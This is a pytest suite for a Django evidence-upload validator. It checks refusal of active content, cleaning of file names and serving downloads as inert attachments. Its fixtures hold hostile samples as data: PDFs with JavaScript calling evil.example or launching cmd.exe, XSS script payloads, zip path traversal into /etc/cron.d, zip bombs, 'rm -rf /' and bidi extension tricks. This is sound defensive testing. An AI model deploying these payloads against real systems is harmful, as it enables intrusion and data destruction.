"""Uploads that cannot carry code: the type decided by the content and an allow-list, active
content refused whatever the extension, names cleaned, zips checked, downloads served inert."""

from __future__ import annotations

import io
import zipfile
import zlib

import pytest
from django import forms
from django.core.files.uploadedfile import SimpleUploadedFile

from progress.evidence import MAX_NAME_CHARACTERS, clean_file_name, validate_evidence

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 40
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction [3 0 R /XYZ null null 0] >> endobj\n%%EOF"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100


def _zip(members: dict[str, bytes], *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX_TYPES = (b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
              b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
DOCM_TYPES = DOCX_TYPES.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")
DOCX = _zip({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": b"<w:document/>"})

def _pdf_with_object_stream(objects: bytes, *, packed: bytes | None = None, filters: bytes = b"/FlateDecode") -> bytes:
    """A PDF 1.5 whose objects sit compressed in an object stream (as most writers make them now)."""
    packed = zlib.compress(b"4 0 5 60 " + objects) if packed is None else packed
    return (b"%PDF-1.5\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n"
            b"3 0 obj << /Type /ObjStm /N 2 /First 9 /Filter " + filters + b" /Length "
            + str(len(packed)).encode() + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n%%EOF")


HIDDEN_JS = b"<< /S /JavaScript /JS (app.launchURL('http://evil.example')) >> << /Type /Pages /Kids [] /Count 0 >>"
PLAIN_OBJECTS = b"<< /Type /Pages /Kids [] /Count 0 >> << /Type /Page /Parent 2 0 R >>"
# An image's compressed bytes that happen to spell "/JS " (about once in 20 MB of random bytes):
# a stream's body, taken by its /Length, is not searched for the short name (no false alarms).
IMAGE = b"\x9c\x11/JS \x10\xfe" * 1000
PDF_WITH_IMAGE = (b"%PDF-1.5\n5 0 obj << /Type /XObject /Subtype /Image /Filter /FlateDecode /Length "
                  + str(len(IMAGE)).encode() + b" >>\nstream\n" + IMAGE + b"\nendstream\nendobj\n%%EOF")

REFUSED = {
    "a PDF with JavaScript in a compressed object stream": ("report.pdf", _pdf_with_object_stream(HIDDEN_JS)),
    "a PDF that launches a program from an object stream": (
        "report.pdf", _pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>", filters=b"[/FlateDecode]")),
    "a PDF with an embedded file in an object stream": (
        "report.pdf", _pdf_with_object_stream(b"<< /Type /Filespec /EF << /F 9 0 R >> /EmbeddedFile 9 0 R >>")),
    "a PDF whose JavaScript name is spelt with #xx": (
        "report.pdf", b"%PDF-1.4\n1 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj"),
    "a PDF object stream that is a bomb": (
        "report.pdf", _pdf_with_object_stream(b"", packed=zlib.compress(b" " * (30 * 1024 * 1024)))),
    "a PDF hiding an action in a stream whose /Length lies": (
        "report.pdf", b"%PDF-1.4\n1 0 obj << /Length 3 >>\nstream\n<< /S /JS (app.alert(1)) >>\nendstream endobj"),
    "a PDF object stream behind another filter": (
        "report.pdf", _pdf_with_object_stream(b"", packed=HIDDEN_JS.hex().encode() + b">",
                                              filters=b"/ASCIIHexDecode")),
    "a web page as text": ("说明.txt", b"<html><body><script>alert(document.cookie)</script></body></html>"),
    "a script in text": ("notes.txt", "材料\n<script src=//evil.example/x.js></script>".encode()),
    "a javascript: link in text": ("link.txt", b"click javascript:alert(1)"),
    "an SVG named .png": ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "an SVG named .txt": ("photo.txt", b'<?xml version="1.0"?><svg onload="alert(1)"/>'),
    "an SVG": ("photo.svg", b"<svg/>"),
    "an HTML file": ("page.html", b"<p>hi</p>"),
    "an XML file": ("data.xml", b"<?xml version='1.0'?><a/>"),
    "a JS file": ("app.js", b"alert(1)"),
    "a PNG that is also a web page": ("photo.png", PNG + b"<html><script>alert(1)</script></html>"),
    "a PDF with JavaScript": ("report.pdf", b"%PDF-1.4\n1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"),
    "a PDF that launches a program": ("report.pdf", b"%PDF-1.4\n1 0 obj << /S /Launch /F (cmd.exe) >> endobj"),
    "a PDF that is also a web page": ("report.pdf", b"%PDF-1.4\n<html><script>alert(1)</script>"),
    "a .docm": ("plan.docm", DOCX),
    "an .xlsm": ("sheet.xlsm", DOCX),
    "a macro document named .docx": ("plan.docx", _zip({"[Content_Types].xml": DOCM_TYPES,
                                                         "word/vbaProject.bin": b"\x00" * 64})),
    "macros in a .doc (OLE)": ("old.doc", OLE + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 20),
    "a zip that is not Office named .docx": ("plan.docx", _zip({"a.txt": b"x"})),
    "a program named .pdf": ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00"),
    "a program named .txt": ("readme.txt", b"MZ\x90\x00\x03\x00\x00\x00"),
    "a shell script named .txt": ("run.txt", b"#!/bin/sh\nrm -rf /\n"),
    "an ELF named .png": ("photo.png", b"\x7fELF\x02\x01\x01"),
    "an executable": ("setup.exe", b"MZ\x90\x00"),
    "a zip whose member climbs out": ("files.zip", _zip({"../../etc/cron.d/x": b"* * * * * root sh"})),
    "a zip with an absolute path": ("files.zip", _zip({"/etc/passwd": b"root"})),
    "a zip with a Windows path": ("files.zip", _zip({"C:/Windows/evil.dll": b"x"})),
    "a zip bomb": ("files.zip", _zip({"zeros.bin": b"\x00" * (12 * 1024 * 1024)})),
    "a zip holding a program": ("files.zip", _zip({"setup.exe": b"MZ\x90\x00"})),
    "a zip holding a web page": ("files.zip", _zip({"index.html": b"<script>alert(1)</script>"})),
    "a zip holding macros": ("files.zip", _zip({"plan.docm": DOCX})),
    "a zip that is not one": ("files.zip", b"PK\x03\x04broken"),
    "an empty file": ("empty.pdf", b""),
}

ACCEPTED = {
    "a PDF that opens at its first page": ("会议纪要.pdf", PDF),
    "a PDF with its objects in a compressed object stream": ("会议纪要.pdf", _pdf_with_object_stream(PLAIN_OBJECTS)),
    "a PDF with a compressed image": ("照片.pdf", PDF_WITH_IMAGE),
    "a Word document": ("方案.docx", DOCX),
    "a PNG": ("现场照片.png", PNG),
    "Chinese text (GB18030)": ("台账.txt", "困难职工帮扶台账\n".encode("gb18030")),
    "a zip of PDFs": ("材料.zip", _zip({"一月/纪要.pdf": PDF, "二月/纪要.pdf": PDF})),
    "an old Word document without macros": ("旧文件.doc", OLE),
}


def _upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_active_content_is_refused_whatever_the_extension(kind):
    name, content = REFUSED[kind]
    with pytest.raises(forms.ValidationError):
        validate_evidence(_upload(name, content))


@pytest.mark.parametrize("kind", sorted(ACCEPTED))
def test_ordinary_evidence_is_accepted_with_the_type_its_content_says(kind):
    name, content = ACCEPTED[kind]
    checked = validate_evidence(_upload(name, content))
    assert checked.name == name and checked.size == len(content)


def test_upload_kinds_counted():
    print(f"upload kinds: {len(REFUSED)} refused, {len(ACCEPTED)} accepted")
    assert len(REFUSED) >= 30


@pytest.mark.parametrize("raw, cleaned", [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\Windows\\win.ini.txt", "win.ini.txt"),
    ("C:\\Users\\张三\\Desktop\\方案.docx", "方案.docx"),
    ("report\u202efdp.exe", "reportfdp.exe"),  # the right-to-left override that shows it as “exe.pdf”
    ("a\u200b\u2066b\u2069.pdf", "ab.pdf"),
    ("tab\there\x00\x1f.pdf", "tabhere.pdf"),
    ("...hidden.pdf", "hidden.pdf"),
    ("", "file"),
    ("\u202e", "file"),
])
def test_file_names_are_cleaned(raw, cleaned):
    assert clean_file_name(raw) == cleaned


def test_an_over_long_name_is_cut_and_keeps_its_extension():
    name = clean_file_name("很" * 300 + ".pdf")
    assert len(name) == MAX_NAME_CHARACTERS and name.endswith(".pdf")


def test_a_bidi_trick_cannot_smuggle_an_executable_extension():
    with pytest.raises(forms.ValidationError):
        validate_evidence(_upload("photo\u202egnp.exe", b"MZ\x90\x00"))


@pytest.mark.django_db
def test_a_download_is_an_inert_attachment_under_a_random_stored_name(client, roles, item1, settings, tmp_path):
    from departments.models import Department
    from tests.factories import submit_report

    settings.MEDIA_ROOT = tmp_path
    report = submit_report(item=item1, department=Department.objects.get(name="办公室"), reporter=roles.staff,
                           evidence=[validate_evidence(_upload("会议纪要.pdf", PDF))])
    evidence = report.evidence.get()
    # stored under a random name, never the user's
    assert "会议纪要" not in evidence.file.name and len(evidence.file.name.rsplit("/", 1)[-1]) == 32
    client.force_login(roles.staff)
    response = client.get(evidence.get_absolute_url())
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
